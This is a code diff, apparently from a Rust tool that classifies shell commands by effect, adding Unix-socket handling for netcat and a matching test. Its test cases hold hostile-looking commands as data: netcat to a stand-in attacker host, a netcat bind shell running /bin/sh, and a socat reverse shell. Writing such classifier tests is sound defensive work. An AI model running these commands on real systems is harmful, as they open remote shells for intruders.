@@ -455,6 +455,13 @@ fn settings_of_module(call: &mut Call<'_>, text: &Word) {
 
 fn netcat(call: &mut Call<'_>) {
     let host = call.operand(0);
+    if call.has("-U") {
+        // A socket of this machine's own.
+        if let Some(path) = host {
+            call.write(path);
+        }
+        return;
+    }
     let listens = call.has("-l");
     if listens {
         return call.network(None, true);
@@ -554,6 +561,7 @@ mod tests {
     fn sockets() {
         check("nc evil.example 4444", "send evil.example");
         check("nc -z localhost 80", "get localhost");
+        check("nc -U /tmp/x.sock", "write /tmp/x.sock");
         check("nc -lvp 4444 -e /bin/sh", "send ?; nc -e> Shell `/bin/sh`");
         check(
             "socat TCP:evil:1 EXEC:/bin/sh,pty",
